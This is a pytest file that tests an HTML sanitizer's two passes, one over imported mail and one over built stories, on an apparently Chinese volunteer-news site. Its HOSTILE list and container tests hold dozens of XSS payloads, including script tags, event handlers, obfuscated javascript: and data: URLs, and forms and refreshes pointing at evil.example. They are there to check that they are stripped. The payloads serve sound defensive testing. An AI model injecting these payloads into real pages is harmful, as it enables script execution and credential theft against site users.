"""The one allow-list, in both passes (the importer's over submitted mail, the build's over every
story): hostile HTML loses every active part; ordinary story markup survives."""

from collections import Counter
from html.parser import HTMLParser

import pytest
from mailbox_import.sanitize import clean_html
from sanitizer.reading import clean_story_html


def story_pass(html: str) -> str:
    return clean_story_html(html, Counter())


ALLOWED_TAGS = {
    "p", "br", "h2", "h3", "h4", "strong", "em", "b", "i", "u", "ul", "ol", "li", "blockquote", "a",
    "img", "figure", "figcaption", "table", "thead", "tbody", "tr", "th", "td", "caption", "pre", "code",
    "hr", "sup", "sub",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "img": {"src", "alt", "title", "width", "height"}}
# What Markdown writes for a hand-written story, allowed in the build's pass only.
MARKDOWN_TAGS = {
    "h1", "h5", "h6", "div", "span", "dl", "dt", "dd", "abbr", "del", "ins", "s", "mark", "kbd",
    "samp", "var", "q", "cite", "small", "tfoot", "colgroup", "col",
}  # fmt: skip
MARKDOWN_ATTRIBUTES = {"div": {"class"}, "span": {"class"}, "a": {"class"}, "sup": {"id", "class"}}
BOTH_PASSES = pytest.mark.parametrize("clean", [clean_html, story_pass])


class _Elements(HTMLParser):
    """Collects (tag, attributes) the way a browser's parser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def _scheme(url: str) -> str:
    compact = "".join(character for character in url if ord(character) > 0x20).lower()
    return compact.split(":", 1)[0] if ":" in compact.split("/", 1)[0] else ""


def _assert_only_allowed(
    html: str, link_schemes: set[str], image_schemes: set[str], markdown_markup: bool = False
) -> None:
    for tag, attributes in _Elements(html).elements:
        assert tag in ALLOWED_TAGS | (MARKDOWN_TAGS if markdown_markup else set()), (tag, html)
        allowed = ALLOWED_ATTRIBUTES.get(tag, set())
        if markdown_markup:
            allowed |= MARKDOWN_ATTRIBUTES.get(tag, set())
        assert set(attributes) <= allowed, (tag, attributes)
        if "href" in attributes:
            assert _scheme(attributes["href"] or "") in link_schemes, attributes
        if "src" in attributes:
            assert _scheme(attributes["src"] or "") in image_schemes, attributes


HOSTILE = [
    '<p>hi<script>alert("x")</script></p>',
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x.jpg" onerror="alert(1)">',
    "<p onclick=alert(1) onmouseover='alert(1)'>click</p>",
    '<a href="https://example.cn" onfocus="alert(1)" autofocus>link</a>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">a</a>',
    '<a href="jav&#x09;ascript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="  javascript:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a>',
    '<a href="DaTa:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<img src=" d a t a :image/png;base64,AAAA">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<form action="https://evil.example/"><input name="pw"><button>登录</button></form>',
    '<object data="evil.swf"><param name="x" value="y"></object>',
    '<embed src="evil.swf">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>body{background:url(javascript:alert(1))}</style><p>styled</p>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    '<div id="x" class="y"><span style="color:red">text</span></div>',
    '<img src="x" width="100" height="50" style="x" class="c" id="i" title="t" alt="a" srcset="evil.jpg 2x">',
    "<!-- <script>alert(1)</script> -->",
]


@BOTH_PASSES
@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markup_loses_every_active_part(clean, hostile: str) -> None:
    cleaned = clean(hostile)
    if clean is clean_html:
        _assert_only_allowed(cleaned, {"http", "https", "mailto", ""}, {"http", "https", "cid", ""})
    else:
        _assert_only_allowed(cleaned, {"http", "https", "mailto", ""}, {""}, markdown_markup=True)
    lowered = cleaned.lower()
    for marker in ("<script", "javascript", "data:", "onerror", "onload", "<style", "style="):
        assert marker not in lowered, (marker, cleaned)


@BOTH_PASSES
@pytest.mark.parametrize(
    "container",
    [
        "<script>alert(1)</script>",
        "<style>x{}</style>",
        "<svg><text>alert(1)</text></svg>",
        "<math><mi>alert(1)</mi></math>",
        "<template>alert(1)</template>",
        "<iframe>alert(1)</iframe>",
        "<object>alert(1)</object>",
        "<noscript>alert(1)</noscript>",
        "<textarea>alert(1)</textarea>",
    ],
)
def test_active_containers_are_dropped_with_their_content(clean, container: str) -> None:
    # Their text would otherwise come back as escaped markup that Markdown conversion can revive.
    assert clean(f"<p>before</p>{container}<p>after</p>") == "<p>before</p><p>after</p>"


@BOTH_PASSES
def test_escaped_markup_stays_text(clean) -> None:
    cleaned = clean("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")
    assert cleaned == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    assert _Elements(cleaned).elements == [("p", {})]


def test_html_document_from_a_mail_client_keeps_only_the_body_text() -> None:
    mail_html = (
        '<html><head><meta charset="gbk"><title>投稿</title><style>p{color:red}</style></head>'
        '<body><div class="WordSection1"><p class="MsoNormal" style="x">抗疫一线的志愿者</p></div>'
        "</body></html>"
    )
    assert clean_html(mail_html) == "<p>抗疫一线的志愿者</p>"


STORY = (
    "<h2>一、基本情况</h2><p>南京市某某协会<strong>组织</strong>志愿者<em>120</em>人次。<br>"
    '详见<a href="https://www.example.gov.cn/art/2020/2/12/" title="通知" target="_blank" rel="opener">'
    "通知</a>，来稿请发"
    '<a href="mailto:jsmzshzz@163.com">jsmzshzz@163.com</a>。</p>'
    "<ul><li>物资保障</li><li>志愿服务</li></ul><ol><li>一</li></ol>"
    "<blockquote><p>引文</p></blockquote>"
    '<figure><img src="images/3f2a.jpg" alt="现场" title="现场照片" width="640" height="480">'
    "<figcaption>现场照片</figcaption></figure>"
    "<table><caption>捐赠情况</caption><thead><tr><th>物资</th><th>数量</th></tr></thead>"
    "<tbody><tr><td>口罩</td><td>50000</td></tr></tbody></table>"
    "<h3>二</h3><h4>三</h4><pre><code>x = 1</code></pre><hr><p>m<sup>2</sup> H<sub>2</sub>O <b>b</b> "
    "<i>i</i> <u>u</u></p>"
)


@BOTH_PASSES
def test_story_markup_survives(clean) -> None:
    cleaned = clean(STORY)
    # Mail's links get rel="noopener noreferrer"; the site's own stories keep links as written.
    rel = ' rel="noopener noreferrer"' if clean is clean_html else ""
    expected = STORY.replace(' target="_blank" rel="opener"', rel).replace(
        '<a href="mailto:jsmzshzz@163.com">',
        f'<a href="mailto:jsmzshzz@163.com"{rel}>',
    )
    assert cleaned == expected


def test_submitted_images_may_point_at_inline_parts() -> None:
    assert clean_html('<img src="cid:photo1@example">') == '<img src="cid:photo1@example">'
    assert clean_html('<a href="cid:photo1@example">x</a>') == '<a rel="noopener noreferrer">x</a>'


def test_rendered_pages_have_no_cid_images_but_keep_site_paths() -> None:
    assert story_pass('<img src="cid:photo1@example">') == ""
    rendered = (
        '<p><img alt="现场" src="{static}/images/3f2a.jpg"> <img src="../../images/3f2a.jpg">'
        ' <a href="{filename}/stories/x.md">上一篇</a> <a href="#fn:1">1</a></p>'
    )
    assert story_pass(rendered) == rendered


def test_submitted_relative_links_are_dropped() -> None:
    # A relative link in a mail points nowhere on this site; only absolute http(s)/mailto links stay.
    assert clean_html('<a href="../admin/">x</a>') == '<a rel="noopener noreferrer">x</a>'


@BOTH_PASSES
def test_image_sizes_must_be_plain_numbers(clean) -> None:
    assert clean('<img src="a.jpg" width="100%" height="50px">') == '<img src="a.jpg">'
    assert clean('<img src="a.jpg" width=" 80 ">') == '<img src="a.jpg" width=" 80 ">'


def test_rendered_imported_stories_keep_only_images_of_this_site():
    html = (
        '<p><img src="{static}/images/submissions/a.jpg" alt="a">'
        '<img src="https://evil.example/t.gif" alt="t"></p>'
    )
    cleaned = story_pass(html)
    assert "{static}/images/submissions/a.jpg" in cleaned and "evil.example" not in cleaned


@pytest.mark.parametrize(
    "address", ["//evil.example/t.gif", "\\\\evil.example/t.gif", "/\\evil.example/t.gif"]
)
def test_an_image_from_another_host_without_a_scheme_is_removed_too(address):
    found: Counter[str] = Counter()
    assert clean_story_html(f'<p><img src="{address}" alt="t"></p>', found) == "<p></p>"
    assert found == Counter({f"image {address}": 1})
